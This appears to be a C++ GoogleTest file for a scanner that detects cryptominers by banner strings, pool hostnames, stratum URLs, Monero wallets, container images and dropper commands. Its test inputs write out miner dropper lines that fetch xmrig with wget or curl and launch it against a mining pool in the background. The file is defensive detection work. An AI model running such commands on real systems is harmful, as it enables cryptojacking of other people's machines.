// Matching: each kind matches and does not, streaming across chunks, wallets, bounded memory.
#include <gtest/gtest.h>

#include <cstring>
#include <fstream>
#include <random>

#include "indicator_test_support.hpp"

namespace mg::indicators {
namespace {

using testing::compile_yaml;
using testing::has_hit;
using testing::make_monero_address;
using testing::make_scanner;

const char* kSmallCatalog = R"(
- {id: s.banner, kind: string, pattern: "MinerBanner/", weight: 5, group: a, why: w, source: s}
- {id: s.caseless, kind: string, pattern: "donate-level", weight: 5, group: b, caseless: true, why: w, source: s}
- {id: s.bytes, kind: string, pattern: "Rand\x00\x03", weight: 4, group: c, why: w, source: s}
- {id: h.pool, kind: hostname, pattern: "Pool.Example.Org", weight: 5, group: pool, why: w, source: s}
- {id: r.url, kind: regex, pattern: 'stratum\+tcp://[a-z.]+:[0-9]+', weight: 4, group: stratum, why: w, source: s}
- {id: c.fetch, kind: command, pattern: '(?:wget|curl)\b[^\n]{0,200}xmrig', weight: 6, group: dropper, caseless: true, why: w, source: s}
- {id: w.xmr, kind: wallet, pattern: '[4-9AB][1-9A-HJ-NP-Za-km-z]{94}(?:[1-9A-HJ-NP-Za-km-z]{11})?', weight: 7, group: wallet, coin: monero, why: w, source: s}
- {id: p.3333, kind: port, pattern: "3333", weight: 0, group: port, why: w, source: s}
- {id: i.kubeflow, kind: image, pattern: 'ddsfdfsaadfs/dfsdf', weight: 9, group: image, why: w, source: s}
- {id: i.named, kind: image, pattern: '(?:[a-z0-9._-]+/)*xmrig', weight: 7, group: image, why: w, source: s}
)";

struct Fixture : ::testing::Test {
  std::shared_ptr<const CompiledCatalog> catalog = compile_yaml(kSmallCatalog);
  Scanner scanner = make_scanner(catalog);
  std::mt19937_64 rng{42};

  const Hit* find(const std::vector<Hit>& hits, const std::string& id) {
    for (const auto& hit : hits)
      if (catalog->at(hit.indicator).id == id) return &hit;
    return nullptr;
  }
};

TEST_F(Fixture, StringMatchesWithOffsetAndText) {
  const auto hits = scanner.scan(std::string("xx\0MinerBanner/1.0", 18));
  const Hit* hit = find(hits, "s.banner");
  ASSERT_NE(hit, nullptr);
  EXPECT_EQ(hit->offset, 3u);
  EXPECT_EQ(hit->text, "MinerBanner/");
  EXPECT_EQ(find(scanner.scan("minerbanner/"), "s.banner"), nullptr) << "case-sensitive unless caseless";
  EXPECT_EQ(find(scanner.scan("MinerBanner"), "s.banner"), nullptr);
}

TEST_F(Fixture, CaselessAndBinaryLiterals) {
  EXPECT_NE(find(scanner.scan("\"DONATE-LEVEL\": 1"), "s.caseless"), nullptr);
  EXPECT_EQ(find(scanner.scan("donate_level"), "s.caseless"), nullptr);
  const auto hits = scanner.scan(std::string("..Rand\0\3..", 10));
  const Hit* hit = find(hits, "s.bytes");
  ASSERT_NE(hit, nullptr);
  EXPECT_EQ(hit->text, std::string("Rand\0\3", 6));
  EXPECT_EQ(find(scanner.scan(std::string("Rand\0\4", 6)), "s.bytes"), nullptr);
}

TEST_F(Fixture, HostnameInContentIsCaseless) {
  const auto hits = scanner.scan("url: stratum+tcp://POOL.example.org:3333");
  const Hit* hit = find(hits, "h.pool");
  ASSERT_NE(hit, nullptr);
  EXPECT_EQ(hit->text, "POOL.example.org");
  EXPECT_EQ(hit->offset, 19u);
  EXPECT_EQ(find(scanner.scan("pool.example.com"), "h.pool"), nullptr);
}

TEST_F(Fixture, RegexAndCommandCarryTheMatchedText) {
  auto hits = scanner.scan("start\nnohup curl -s http://1.2.3.4/XMRig -o x\n -o stratum+tcp://pool.example.org:3333 tail");
  const Hit* url = find(hits, "r.url");
  ASSERT_NE(url, nullptr);
  // Streaming reports a match at its first possible end; regexes carry the line (or printable
  // run) that ends there, since start-of-match tracking is not compiled in.
  EXPECT_EQ(url->text, " -o stratum+tcp://pool.example.org:3");
  EXPECT_EQ(url->offset, 46u);
  using namespace std::string_literals;
  auto binary = scanner.scan("\x01\x00"s + "stratum+tcp://pool.example.org:3333" + "\x00\x02"s);
  const Hit* in_binary = find(binary, "r.url");
  ASSERT_NE(in_binary, nullptr);
  EXPECT_EQ(in_binary->text, "stratum+tcp://pool.example.org:3") << "the printable run, not the bytes before it";
  EXPECT_EQ(in_binary->offset, 2u);
  const Hit* fetch = find(hits, "c.fetch");
  ASSERT_NE(fetch, nullptr);
  // Hyperscan cannot track this pattern's start, so its text is the line up to the match's end.
  EXPECT_TRUE(fetch->text.ends_with("curl -s http://1.2.3.4/XMRig")) << fetch->text;
  EXPECT_EQ(fetch->offset + fetch->text.size(), 40u) << fetch->offset << " [" << fetch->text << "]";
  EXPECT_EQ(find(scanner.scan("curl http://x/\nxmrig"), "c.fetch"), nullptr) << "commands do not cross lines";
}

TEST_F(Fixture, PortsAndImagesAreNotContent) {
  auto hits = scanner.scan("3333 ddsfdfsaadfs/dfsdf:99");
  EXPECT_EQ(find(hits, "p.3333"), nullptr);
  EXPECT_EQ(find(hits, "i.kubeflow"), nullptr);
}

TEST_F(Fixture, MatchHostnameOnDotBoundaries) {
  const auto pool = catalog->match_hostname("pool.example.org");
  ASSERT_EQ(pool.size(), 1u);
  EXPECT_EQ(catalog->at(pool[0]).id, "h.pool");
  EXPECT_EQ(catalog->match_hostname("EU1.Pool.Example.ORG.").size(), 1u);
  EXPECT_TRUE(catalog->match_hostname("notpool.example.org").empty());
  EXPECT_TRUE(catalog->match_hostname("example.org").empty());
  EXPECT_TRUE(catalog->match_hostname("pool.example.org.evil.com").empty());
  EXPECT_TRUE(catalog->match_hostname("").empty());
}

TEST_F(Fixture, MatchImage) {
  auto id_of = [&](std::string_view ref) {
    const auto found = catalog->match_image(ref);
    return found.empty() ? std::string() : catalog->at(found.front()).id;
  };
  EXPECT_EQ(id_of("ddsfdfsaadfs/dfsdf:99"), "i.kubeflow");
  EXPECT_EQ(id_of("docker.io/ddsfdfsaadfs/dfsdf"), "i.kubeflow");
  EXPECT_EQ(id_of("index.docker.io/ddsfdfsaadfs/dfsdf:latest@sha256:" + std::string(64, 'a')), "i.kubeflow");
  EXPECT_EQ(id_of("ghcr.io/metal3d/xmrig:latest"), "i.named");
  EXPECT_EQ(id_of("localhost:5000/xmrig"), "i.named");
  EXPECT_EQ(id_of("xmrig"), "i.named");
  EXPECT_EQ(id_of("library/xmrig:6"), "i.named");
  EXPECT_EQ(id_of("metal3d/xmrig-exporter"), "");
  EXPECT_EQ(id_of("ddsfdfsaadfs/dfsdf2"), "");
  EXPECT_EQ(id_of("nginx:1.25"), "");
  EXPECT_EQ(id_of("kubeflownotebookswg/jupyter-scipy:v1.8.0"), "");
}

TEST_F(Fixture, MoneroWalletOnlyWithValidChecksumAsAWholeWord) {
  const std::string address = make_monero_address(rng, 18, false);
  ASSERT_EQ(address.size(), 95u);
  auto hits = scanner.scan("\"user\": \"" + address + "\",");
  const Hit* hit = find(hits, "w.xmr");
  ASSERT_NE(hit, nullptr);
  EXPECT_EQ(hit->text, address);
  EXPECT_EQ(hit->offset, 9u);

  const std::string integrated = make_monero_address(rng, 19, true);
  ASSERT_EQ(integrated.size(), 106u);
  hits = scanner.scan("-u " + integrated);
  hit = find(hits, "w.xmr");
  ASSERT_NE(hit, nullptr);
  EXPECT_EQ(hit->text, integrated);

  std::string broken = address;
  broken[50] = broken[50] == 'z' ? 'y' : 'z';
  EXPECT_EQ(find(scanner.scan(" " + broken + " "), "w.xmr"), nullptr);
  EXPECT_EQ(find(scanner.scan(address + "a"), "w.xmr"), nullptr) << "followed by base58: part of a longer word";
  EXPECT_EQ(find(scanner.scan("a" + address), "w.xmr"), nullptr) << "preceded by base58";
  EXPECT_NE(find(scanner.scan(address), "w.xmr"), nullptr) << "the whole input";
}

TEST_F(Fixture, FirstOccurrenceOnlyPerIndicator) {
  const auto hits = scanner.scan("MinerBanner/ then MinerBanner/ again");
  ASSERT_EQ(hits.size(), 1u);
  EXPECT_EQ(hits[0].offset, 0u);
}

TEST_F(Fixture, StreamCountsBytesAndResetsOnFinish) {
  Stream& stream = scanner.stream();
  stream.feed("abc");
  stream.feed("MinerBan");
  EXPECT_EQ(stream.size(), 11u);
  stream.feed("ner/");
  auto hits = stream.finish();
  ASSERT_EQ(hits.size(), 1u);
  EXPECT_EQ(hits[0].offset, 3u);
  EXPECT_EQ(hits[0].text, "MinerBanner/");
  EXPECT_EQ(stream.size(), 0u);
  stream.feed("ner/");
  EXPECT_TRUE(stream.finish().empty()) << "a finished stream forgets the previous input";
}

TEST_F(Fixture, ScanBetweenFeedsDoesNotDisturbTheStream) {
  Stream& stream = scanner.stream();
  stream.feed("MinerB");
  EXPECT_EQ(scanner.scan("donate-level").size(), 1u);
  stream.feed("anner/");
  EXPECT_EQ(stream.finish().size(), 1u);
}

// The same hits (indicator, offset, text) whatever the chunking.
void expect_same_hits(Scanner& scanner, const std::string& input, std::mt19937_64& rng) {
  const auto whole = scanner.scan(input);
  ASSERT_FALSE(whole.empty());
  auto compare = [&](const std::vector<Hit>& other, const char* how) {
    ASSERT_EQ(other.size(), whole.size()) << how;
    for (std::size_t i = 0; i < whole.size(); ++i) {
      EXPECT_EQ(other[i].indicator, whole[i].indicator) << how;
      EXPECT_EQ(other[i].offset, whole[i].offset) << how;
      EXPECT_EQ(other[i].text, whole[i].text) << how;
    }
  };
  Stream& stream = scanner.stream();
  for (char c : input) stream.feed(std::string_view(&c, 1));
  compare(stream.finish(), "one byte at a time");
  for (std::size_t at = 0; at < input.size();) {
    const std::size_t n = std::min<std::size_t>(input.size() - at, 1 + rng() % 700);
    stream.feed(std::string_view(input).substr(at, n));
    at += n;
  }
  compare(stream.finish(), "random chunks");
}

TEST_F(Fixture, ChunkBoundariesDoNotChangeHits) {
  std::string input(3000, 'q');
  input += "MinerBanner/ " + make_monero_address(rng, 42, false) + " x\nwget http://h/xmrig\n";
  input += std::string("Rand\0\3", 6) + " stratum+tcp://pool.example.org:14444\n" + make_monero_address(rng, 18, false);
  expect_same_hits(scanner, input, rng);
  EXPECT_EQ(scanner.scan(input).size(), 6u) << testing::ids_of(*catalog, scanner.scan(input));
}

TEST(BuiltinMatcher, ChunkBoundariesDoNotChangeHits) {
  auto catalog = testing::builtin();
  Scanner scanner = make_scanner(catalog);
  std::mt19937_64 rng(7);
  std::string input;
  for (int i = 0; i < 2000; ++i) input += static_cast<char>(rng());
  input += "wget -q http://10.0.0.1/xmrig-6.21.0-linux-static-x64.tar.gz && tar xf x.tgz\n";
  input += "nohup ./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u " + make_monero_address(rng, 18, false) +
           " -p x --donate-level=1 -a rx/0 -B\n";
  input += std::string("RandomX\3", 8) + "\0cpu-max-threads-hint\0URL of mining server\0XMRig/6.21.0 (Linux x86_64)";
  expect_same_hits(scanner, input, rng);
}

TEST(BuiltinMatcher, MemoryStaysBoundedOver100MiB) {
  auto catalog = testing::builtin();
  Scanner scanner = make_scanner(catalog);
  Stream& stream = scanner.stream();
  auto resident_kib = [] {
    std::ifstream status("/proc/self/status");
    std::string line;
    while (std::getline(status, line))
      if (line.starts_with("VmRSS:")) return std::stol(line.substr(6));
    return 0L;
  };
  std::mt19937_64 rng(1);
  std::string chunk(64 * 1024, '\0');
  // Random bytes mixed with text that keeps the matcher busy (words, base58 runs, near-misses).
  const std::string noise = " stratum+tcp://a.b:1 4AbCdEfGhJk XMRig/ mining.sub rx/0 donate-lev ";
  const long before = resident_kib();
  for (int round = 0; round < 1600; ++round) {  // 1600 x 64 KiB = 100 MiB
    for (std::size_t i = 0; i < chunk.size(); i += 8) {
      const std::uint64_t r = rng();
      std::memcpy(&chunk[i], &r, 8);
    }
    chunk.replace(rng() % (chunk.size() - noise.size()), noise.size(), noise);
    stream.feed(chunk);
  }
  EXPECT_EQ(stream.size(), 1600u * 64u * 1024u);
  const long after = resident_kib();
  const auto hits = stream.finish();
  EXPECT_LE(hits.size(), catalog->indicators().size());
  for (const auto& hit : hits) EXPECT_LE(hit.text.size(), 256u);
  EXPECT_LT(after - before, 16 * 1024) << "resident memory grew by " << (after - before) << " KiB";
}

}  // namespace
}  // namespace mg::indicators
